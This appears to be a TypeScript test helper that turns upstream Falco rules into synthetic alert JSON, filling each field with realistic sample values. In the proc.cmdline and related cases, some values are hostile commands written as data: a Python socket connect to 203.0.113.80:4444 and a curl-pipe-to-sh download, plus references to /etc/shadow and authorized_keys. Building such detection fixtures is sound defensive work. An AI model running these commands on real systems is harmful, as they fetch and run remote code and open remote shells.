import { readFileSync } from 'node:fs'
import { parse } from 'yaml'

/**
 * The alert Falco (0.40 and later, json_output with the output, tags and output_fields properties)
 * POSTs through http_output for every rule of a rules file — generated from the rule, not written
 * by hand, so a rules release is re-checked by copying its files in. What the bytes look like
 * follows test/fixtures/falco/README.md: keys sorted (nlohmann's std::map), tags sorted (a
 * std::set), `time` UTC with nine fractional digits, `output` starting with the clock time and the
 * priority, `output_fields` holding every field the output names with libsinsp's JSON types
 * (integers for numeric fields, `evt.time` a bare integer above 2^53, `null` where the text says
 * `<NA>`), and for syscall rules the container plugin's suggested fields appended — except on some
 * host events, where they are absent (a Falco without the container plugin).
 */
export interface UpstreamRule {
  file: string
  rule: string
  output: string
  priority: string
  source: string
  tags: string[]
  condition: string
}

export interface GeneratedAlert {
  rule: UpstreamRule
  /** Exactly the request body Falco sends. */
  body: string
  variant: 'container' | 'host' | 'host-suggested'
}

const RULES_DIR = new URL('../fixtures/falcosecurity-rules/', import.meta.url)
export const UPSTREAM_RULE_FILES = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'] as const

/** Every rule with an output in the committed copies of the upstream rules files. */
export function upstreamRules(files: readonly string[] = UPSTREAM_RULE_FILES): UpstreamRule[] {
  const rules: UpstreamRule[] = []
  for (const file of files) {
    const doc = parse(readFileSync(new URL(file, RULES_DIR), 'utf8')) as Record<string, unknown>[]
    for (const item of doc) {
      if (typeof item.rule !== 'string' || typeof item.output !== 'string') continue
      rules.push({
        file,
        rule: item.rule,
        output: item.output.trim(),
        priority: String(item.priority ?? 'DEBUG'),
        source: typeof item.source === 'string' ? item.source : 'syscall',
        tags: Array.isArray(item.tags) ? item.tags.map(String) : [],
        condition: String(item.condition ?? ''),
      })
    }
  }
  return rules
}

/** falco_common.cpp's names: the alert carries the long form whatever the rules file wrote. */
const PRIORITY_NAMES: Record<string, string> = {
  emergency: 'Emergency',
  alert: 'Alert',
  critical: 'Critical',
  error: 'Error',
  warning: 'Warning',
  notice: 'Notice',
  informational: 'Informational',
  info: 'Informational',
  debug: 'Debug',
}

/** A field token in an output format: `%proc.name`, `%proc.aname[2]`, `%evt.arg.flags`, `%(x.y)`. */
const FIELD = /%\(?([A-Za-z_][A-Za-z0-9_]*(?:\.[A-Za-z0-9_]+)*(?:\[[^\]\s]*\])?)\)?/g

export function outputFields(output: string): string[] {
  return [...new Set([...output.matchAll(FIELD)].map((m) => m[1]!))]
}

const SUGGESTED = 'container_id=%container.id container_name=%container.name container_image_repository=%container.image.repository container_image_tag=%container.image.tag k8s_pod_name=%k8s.pod.name k8s_ns_name=%k8s.ns.name'

type Value = string | number | null | { bigint: string }

interface Scene {
  n: number
  variant: GeneratedAlert['variant']
  evtType: string
  timeNs: bigint
}

/** The event type the rule's condition is about (good enough for realistic values). */
function eventType(condition: string, output: string): string {
  const c = `${condition} ${output}`
  if (/\bptrace\b/.test(c)) return 'ptrace'
  if (/memfd_create/.test(c)) return 'memfd_create'
  if (/\bconnect\b|outbound|inbound_outbound|\boutbound\b/.test(c)) return 'connect'
  if (/\binbound\b|accept/.test(c)) return 'accept4'
  if (/\bsymlink/.test(c)) return 'symlinkat'
  if (/\blink\b|linkat/.test(c)) return 'linkat'
  if (/rename|remove|unlink|rmdir/.test(c)) return 'unlinkat'
  if (/mkdir/.test(c)) return 'mkdirat'
  if (/chmod/.test(c)) return 'fchmodat'
  if (/setuid|user_known_non_sudo_setuid/.test(c)) return 'setuid'
  if (/init_module|finit_module/.test(c)) return 'init_module'
  if (/\bsocket\b|packet_socket|AF_PACKET/.test(c)) return 'socket'
  if (/mount\b/.test(c)) return 'mount'
  if (/open_write|open_read|open_file_failed|evt\.type in \(open/.test(c)) return 'openat'
  if (/dup/.test(c)) return 'dup2'
  if (/userfaultfd/.test(c)) return 'userfaultfd'
  if (/bpf/.test(c)) return 'bpf'
  return 'execve'
}

const NETWORK_EVENTS = new Set(['connect', 'accept4', 'socket', 'dup2'])

/** Realistic values for a field, with JSON's types as libsinsp writes them; null for <NA>. */
function valueOf(field: string, s: Scene): Value {
  const net = NETWORK_EVENTS.has(s.evtType)
  const odd = s.n % 2 === 1
  const host = s.variant !== 'container'
  const anc = /^proc\.aname\[(\d+)\]$/.exec(field)
  if (anc) {
    const chain = ['sh', 'node', 'containerd-shim', 'systemd']
    return Number(anc[1]) - 2 < chain.length - (odd ? 2 : 0) ? chain[Number(anc[1]) - 2]! : null
  }
  switch (field) {
    case 'evt.time':
      return { bigint: s.timeNs.toString() }
    case 'evt.type':
      return s.evtType
    case 'evt.arg.flags':
      if (s.evtType === 'execve') return odd ? 'EXE_WRITABLE|EXE_UPPER_LAYER' : 'EXE_WRITABLE|EXE_LOWER_LAYER'
      if (s.evtType === 'openat') return 'O_RDONLY|O_CLOEXEC'
      return s.n % 3 === 0 ? null : '0'
    case 'evt.args':
      return `fd=3(<f>/etc/shadow) dirfd=-100(AT_FDCWD) name=/etc/shadow flags=4097(O_RDONLY|O_CLOEXEC) mode=0 dev=FD01 ino=262155`
    case 'evt.res':
      return odd ? 'SUCCESS' : 'EPERM'
    case 'evt.arg.cmd':
      return 'PTRACE_ATTACH'
    case 'evt.arg.fd':
      return '3(<4t>10.0.1.5:43210->203.0.113.80:4444)'
    case 'evt.arg.filename':
      return '/tmp/.x/payload'
    case 'evt.arg.linkpath':
      return '/tmp/shadow-link'
    case 'evt.arg.mode':
      return 'S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID'
    case 'evt.arg.name':
      return odd ? '/var/log/auth.log' : 'kworker'
    case 'evt.arg.newpath':
      return '/root/.ssh/authorized_keys'
    case 'evt.arg.oldpath':
      return '/tmp/keys'
    case 'evt.arg.path':
      return '/etc/cron.d/job'
    case 'evt.arg.target':
      return '/etc/shadow'
    case 'evt.arg.uid':
      return '0'
    case 'user.name':
      return odd ? 'www-data' : 'root'
    case 'user.uid':
      return odd ? 33 : 0
    case 'user.loginuid':
      return odd ? 1000 : -1
    case 'user.loginname':
      return odd ? 'ec2-user' : null
    case 'group.gid':
      return 0
    case 'group.name':
      return 'root'
    case 'proc.name':
      return s.evtType === 'execve' ? 'bash' : 'python3'
    case 'proc.exepath':
      return s.evtType === 'execve' ? '/usr/bin/bash' : '/usr/local/bin/python3.12'
    case 'proc.exe':
      return 'bash'
    case 'proc.pname':
      return odd ? null : 'node'
    case 'proc.pexe':
      return '/usr/local/bin/node'
    case 'proc.pexepath':
      return '/usr/local/bin/node'
    case 'proc.sname':
      return 'bash'
    case 'proc.cmdline':
      if (s.n % 5 === 4) return `java -Dlog4j2.formatMsgNoLookups=false -cp ${'/opt/app/lib/dependency-1.0.jar:'.repeat(120)}/opt/app/app.jar com.example.Main — ünïcødé ✓`
      return odd ? `python3 -c import socket,os;s=socket.socket();s.connect(("203.0.113.80",4444))` : 'bash -c "curl -fsSL http://203.0.113.80/x.sh | sh"'
    case 'proc.pcmdline':
      return odd ? null : 'node /app/server.js --port=8080'
    case 'proc.args':
      return '-c "id; uname -a"'
    case 'proc.cwd':
      return '/app/'
    case 'proc.env':
      return 'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin HOSTNAME=cart-api-7d9c6b7b9c-x2x8k LANG=C.UTF-8 GREETING=héllo'
    case 'proc.tty':
      return odd ? 0 : 34816
    case 'proc.aexepath[2]':
      return '/usr/bin/containerd-shim-runc-v2'
    case 'proc.exe_ino.ctime':
      return { bigint: (s.timeNs - 120_000_000_000n).toString() }
    case 'proc.exe_ino.mtime':
      return { bigint: (s.timeNs - 120_000_000_000n).toString() }
    case 'proc.exe_ino.ctime_duration_proc_start':
      return 118_000_000_000
    case 'fd.name':
      if (net) return '10.0.1.5:43210->203.0.113.80:4444'
      if (s.evtType === 'execve') return s.n % 3 === 0 ? null : '/usr/bin/bash'
      return '/etc/shadow'
    case 'fd.nameraw':
      return '/etc/../etc/shadow'
    case 'fd.type':
      return net ? 'ipv4' : 'file'
    case 'fd.l4proto':
      return net ? 'tcp' : null
    case 'fd.lport':
      return net ? 43210 : null
    case 'fd.rport':
      return net ? 4444 : null
    case 'fd.sport':
      return net ? 4444 : null
    case 'fd.rip':
      return net ? '203.0.113.80' : null
    case 'fd.sip':
      return net ? '203.0.113.80' : null
    case 'fd.rip.name':
    case 'fd.sip.name':
      return net && !odd ? 'pool.minexmr.example' : null
    case 'fd.cip.name':
    case 'fd.lip.name':
      return null
    case 'thread.cap_effective':
    case 'thread.cap_permitted':
      return 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_SETGID CAP_SETUID CAP_NET_BIND_SERVICE CAP_SYS_ADMIN'
    case 'container.id':
      return host ? 'host' : '3ad7b26ded6d'
    case 'container.name':
      return host ? 'host' : 'cart-api'
    case 'container.image.repository':
      return host ? '' : '111122223333.dkr.ecr.eu-west-1.amazonaws.com/shop/cart-api'
    case 'container.image.tag':
      return host ? '' : '2.14.3'
    case 'container.mounts':
      return host ? '' : '/var/run/docker.sock:/var/run/docker.sock::true:private,/proc:/host/proc::false:rprivate'
    case 'container.start_ts':
      return host ? null : { bigint: (s.timeNs - 3_600_000_000_000n).toString() }
    case 'k8s.pod.name':
      return host ? null : 'cart-api-7d9c6b7b9c-x2x8k'
    case 'k8s.ns.name':
      return host ? null : 'shop'
    default:
      // A field this generator has no value for: Falco would still name it; keep the event honest.
      return null
  }
}

function render(v: Value): string {
  if (v === null) return '<NA>'
  if (typeof v === 'object') return v.bigint
  return String(v)
}

/** Falco writes JSON null for a field with no value; plugin fields and older releases write "<NA>". */
function json(v: Value, naText: boolean): string {
  if (v === null && naText) return '"<NA>"'
  return v !== null && typeof v === 'object' ? v.bigint : JSON.stringify(v)
}

const HOSTNAME = 'ip-10-0-12-34.eu-west-1.compute.internal'

/**
 * The alert for `rule`, as the `n`th event of a run starting at `startNs`. Variants rotate:
 * a container event, a host event without the suggested container fields, a host event with them.
 */
export function alertFor(rule: UpstreamRule, n: number, startNs: bigint): GeneratedAlert {
  const tagsSay = (t: string) => rule.tags.includes(t)
  const variant: GeneratedAlert['variant'] = rule.source !== 'syscall' ? 'host' : !tagsSay('host') ? 'container' : !tagsSay('container') ? 'host' : (['container', 'host', 'host-suggested'] as const)[n % 3]!
  const timeNs = startNs + BigInt(n) * 1_003_117n
  const scene: Scene = { n, variant, evtType: eventType(rule.condition, rule.output), timeNs }
  const format = rule.source === 'syscall' && variant !== 'host' ? `${rule.output} ${SUGGESTED}` : rule.output
  const names = outputFields(format)
  if (!names.includes('evt.time')) names.push('evt.time')
  const values = new Map(names.map((f) => [f, valueOf(f, scene)] as const))
  const priority = PRIORITY_NAMES[rule.priority.trim().toLowerCase()]
  if (!priority) throw new Error(`${rule.file}: ${rule.rule}: priority ${rule.priority}`)
  const iso = isoNanos(timeNs)
  const text = `${iso.slice(11, 29)}: ${priority} ${format.replace(FIELD, (_, f: string) => render(values.get(f) ?? null))}`
  const fields = [...values.keys()]
    .sort()
    .map((k) => `${JSON.stringify(k)}:${json(values.get(k)!, n % 4 === 3)}`)
    .join(',')
  const tags = [...new Set(rule.tags)].sort()
  const parts = [
    `"hostname":${JSON.stringify(HOSTNAME)}`,
    `"output":${JSON.stringify(text)}`,
    `"output_fields":{${fields}}`,
    `"priority":${JSON.stringify(priority)}`,
    `"rule":${JSON.stringify(rule.rule)}`,
    `"source":${JSON.stringify(rule.source)}`,
    // json_include_tags_property: an untagged rule still gets "tags":[] (formats.cpp).
    `"tags":${JSON.stringify(tags)}`,
    `"time":${JSON.stringify(iso)}`,
  ]
  return { rule, variant, body: `{${parts.join(',')}}` }
}

export function isoNanos(ns: bigint): string {
  const ms = Number(ns / 1_000_000n)
  return `${new Date(ms).toISOString().slice(0, 19)}.${(ns % 1_000_000_000n).toString().padStart(9, '0')}Z`
}

/** One alert per rule, about a millisecond apart from `start` (default: a minute ago). */
export function upstreamAlerts(start = BigInt(Date.now() - 60_000) * 1_000_000n, rules = upstreamRules()): GeneratedAlert[] {
  return rules.map((rule, n) => alertFor(rule, n, start))
}
